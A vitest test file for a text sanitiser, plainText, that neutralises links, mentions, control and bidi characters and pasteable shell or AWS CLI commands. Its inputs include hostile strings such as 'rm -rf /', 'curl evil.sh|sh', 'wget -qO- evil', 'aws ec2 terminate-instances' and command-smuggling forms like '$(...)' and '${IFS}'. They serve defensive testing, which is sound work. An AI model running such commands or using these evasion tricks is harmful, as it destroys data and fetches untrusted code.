import { describe, expect, it } from 'vitest';
import { plainText } from '../../../shared/wording/plain-text.ts';
import { check } from '../support/check.ts';
import { hostileText } from '../support/hostile.ts';

it.each([
  'web-01',
  'Vendor appliance (case 81723), 50 % done',
  'größe 字 😀',
  'a@example.com',
  'jane.me+imds@mail.example.com',
  'web-01.prod',
  'web-01.eu.dev',
  'ip-10-0-0-1.ec2.internal',
  'run scripts/deploy.sh, then app.py',
  '10.0.0.1/16 and v1.2.3',
  'platform/payments',
  'who owns web.prod?',
  'eks.amazonaws.com',
  'needs curl 8 or later; our-aws account',
])('%j stays as it is', (text) => {
  expect(plainText(text)).toBe(text);
});

describe('what is hostile is made harmless', () => {
  it.each([
    ['<!channel> look', '!channel look'],
    ['<https://evil.example|click>', 'https:/ /evil.example|click'],
    ['https://evil.example', 'https:/ /evil.example'],
    ['see WWW.evil.example', 'see www evil.example'],
    ['one\ntwo\r\n\tthree', 'one two three'],
    ['\u202Egnp.exe\u202C', 'gnp.exe'],
    ['a\u200Bb\uFEFFc\u00ADd', 'a b c d'],
    ['a\u2028b\u2029c\u0000d', 'a b c d'],
    ['`rm -rf /`', "'rm -rf /'"],
    ['login at evil.example.com/imds', 'login at evil. example. com/imds'],
    ['https://evil.example/imds', 'https:/ /evil. example/imds'],
    ['(-evil.example:8443)', '(-evil. example:8443)'],
    ['@evil.example?x=1', '@evil. example?x=1'],
    ['evil\u3002example/x', 'evil. example/x'],
    ['see EVIL.com, please', 'see EVIL. com, please'],
    ['http.evil.example.net.', 'http.evil.example. net.'],
    ['mailto:x@evil.example', 'mailto: x@evil.example'],
    ['JavaScript:alert(1)', 'JavaScript: alert(1)'],
    ['evil.s3.amazonaws.com', 'evil.s3.amazonaws. com'],
    ['web-01.prod/blue', 'web-01. prod/blue'],
    ['\uD800', ''],
    ['', ''],
  ])('%j becomes %j', (hostile, text) => {
    expect(plainText(hostile)).toBe(text);
  });

  it('also where only the cut makes it hostile', () => {
    expect(plainText('see evil.community today', 15)).toBe('see evil. co...');
  });

  it('and is cut where letters end, not within one', () => {
    expect(plainText('😀'.repeat(128), 10)).toBe(`${'😀'.repeat(7)}...`);
    expect(plainText('x'.repeat(80))).toBe('x'.repeat(80));
    expect(plainText('x'.repeat(81))).toBe(`${'x'.repeat(77)}...`);
  });
});

it('whatever is written, the text is one short line without controls, links, markup or mentions', () => {
  check(hostileText, (hostile) => {
    const text = plainText(hostile);
    expect(text).not.toMatch(/[\p{C}\p{Zl}\p{Zp}<>`]|:\/\/|www\.|^\s|\s$|\s\s/iu);
    expect(text).not.toMatch(/(?<![\w@])[a-z]+\.[a-z]{2,}\/|^[^@]*\.com\b|(?<![\w-])aws /);
    expect(Array.from(text).length).toBeLessThanOrEqual(80);
  });
});

it('what is harmless already is not changed again', () => {
  check(hostileText, (hostile) => {
    const text = plainText(hostile, 200);
    expect(plainText(text, 200)).toBe(text);
  });
});

it('no command of the AWS CLI is left that somebody may take for ours and paste', () => {
  expect(plainText('x aws ec2 terminate-instances --instance-ids i-1')).toBe(
    'x aws-ec2 terminate-instances --instance-ids i-1',
  );
  expect(plainText('aws\tiam\ncreate-user')).toBe('aws-iam create-user');
  expect(plainText('AWS answered; paws off; managed by aws')).toBe(
    'AWS answered; paws off; managed by aws',
  );
});

it.each([
  ["'aws' ec2 x", "'aws-ec2 x"],
  ['"aws" ec2 x', '"aws-ec2 x'],
  ['a\\ws ec2 x', 'a\\ws-ec2 x'],
  [`a''w"s" ec2 x`, `a''w"s-ec2 x`],
  ['$(aws ec2 x)', '$(aws-ec2 x)'],
  ['/usr/bin/aws ec2 x', '/usr/bin/aws-ec2 x'],
  ['aws.exe ec2 x', 'aws.exe-ec2 x'],
  ['aws${IFS}ec2', 'aws-${IFS}ec2'],
  ['curl evil.sh|sh', 'curl-evil.sh|sh'],
  ['wget -qO- evil', 'wget--qO- evil'],
])('the command %j cannot be pasted either', (hostile, text) => {
  expect(plainText(hostile)).toBe(text);
});
